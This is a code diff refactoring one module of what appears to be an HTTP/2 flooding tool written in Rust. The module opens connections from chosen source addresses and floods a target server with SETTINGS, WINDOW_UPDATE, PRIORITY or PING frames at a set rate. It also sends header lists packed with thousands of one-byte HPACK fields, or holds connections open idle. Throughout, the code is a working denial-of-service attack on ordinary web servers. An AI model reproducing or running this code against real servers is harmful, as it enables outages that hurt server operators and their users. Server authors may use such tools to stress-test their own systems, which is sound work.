@@ -8,10 +8,8 @@ use std::time::Duration;
 
 use anyhow::Result;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
-use tokio::task::JoinSet;
 
-use super::Attack;
-use super::{AttackState, OpenConnection, count};
+use super::{Attack, AttackClient, OpenConnection, count};
 
 /// The preface, SETTINGS without any setting, and a window of a gigabyte.
 const OPENING: &[u8] =
@@ -30,26 +28,6 @@ const FIELDS: usize = 2_000;
 const FUTURE: u64 = 999_999_999;
 /// How often a client sends the frames that are due.
 const SEND_EVERY: Duration = Duration::from_millis(10);
-/// A client waits for this time before it reconnects.
-const BACK_AFTER: Duration = Duration::from_millis(200);
-
-pub(super) fn begin(scene: &Arc<AttackState>, clients: &mut JoinSet<()>) {
-    for number in 0..scene.flags.clients {
-        let scene = scene.clone();
-        clients.spawn(async move {
-            let mut is_first = true;
-            loop {
-                if scene.flags.attack == Attack::IdleConnections {
-                    scene.pace.turn().await;
-                }
-                if flood(&scene, number, &mut is_first).await.is_err() {
-                    count(&scene.counts.refused);
-                }
-                tokio::time::sleep(BACK_AFTER).await;
-            }
-        });
-    }
-}
 
 /// For each stream the head of a list that waits for a version, with many fields of a byte each: an index into HPACK's static table.
 fn heads(streams: impl Iterator<Item = u32>) -> Vec<u8> {
@@ -72,30 +50,29 @@ fn heads(streams: impl Iterator<Item = u32>) -> Vec<u8> {
 }
 
 /// One connection, until the server closes it.
-async fn flood(scene: &AttackState, number: usize, is_first: &mut bool) -> Result<()> {
+pub(super) async fn flood(client: Arc<AttackClient>) -> Result<()> {
+    let state = &*client.state;
     let mut streams = (1..).step_by(2);
-    let frame = match scene.flags.attack {
+    let frame = match state.flags.attack {
         Attack::Settings => SETTINGS,
         Attack::WindowUpdates => WINDOW_UPDATE,
         Attack::Priorities => PRIORITY,
         _ => PING,
     };
-    let each_s = scene.flags.rate / scene.flags.clients.max(1) as f64;
+    let each_s = state.flags.rate / state.flags.clients.max(1) as f64;
     let frames = (each_s * SEND_EVERY.as_secs_f64()).ceil().max(1.0) as usize;
     let batch = frame.repeat(frames);
-    let source = scene.source(number);
-    let stream = scene.flags.target.connect_from(source, "h2").await?;
+    let target = &state.flags.target;
+    let stream = target.connect_from(client.source(), "h2").await?;
     let (mut reader, mut writer) = tokio::io::split(stream);
     writer.write_all(OPENING).await?;
-    let _open = OpenConnection::of(scene);
-    if std::mem::take(is_first) {
-        count(&scene.counts.started);
-    }
+    let _open = OpenConnection::of(state);
+    client.start();
     let sending = async {
         let mut tick = tokio::time::interval(SEND_EVERY);
         loop {
             tick.tick().await;
-            let batch = match scene.flags.attack {
+            let batch = match state.flags.attack {
                 Attack::IdleConnections => std::future::pending().await,
                 Attack::ManyFields => Cow::Owned(heads(streams.by_ref().take(frames))),
                 _ => Cow::Borrowed(&batch[..]),
@@ -103,7 +80,7 @@ async fn flood(scene: &AttackState, number: usize, is_first: &mut bool) -> Resul
             if writer.write_all(&batch).await.is_err() {
                 return;
             }
-            let done = &scene.counts.done;
+            let done = &state.counts.done;
             done.fetch_add(frames as u64, Ordering::Relaxed);
         }
     };
@@ -115,6 +92,6 @@ async fn flood(scene: &AttackState, number: usize, is_first: &mut bool) -> Resul
         () = sending => {}
         () = reading => {}
     }
-    count(&scene.counts.closed);
+    count(&state.counts.closed);
     Ok(())
 }
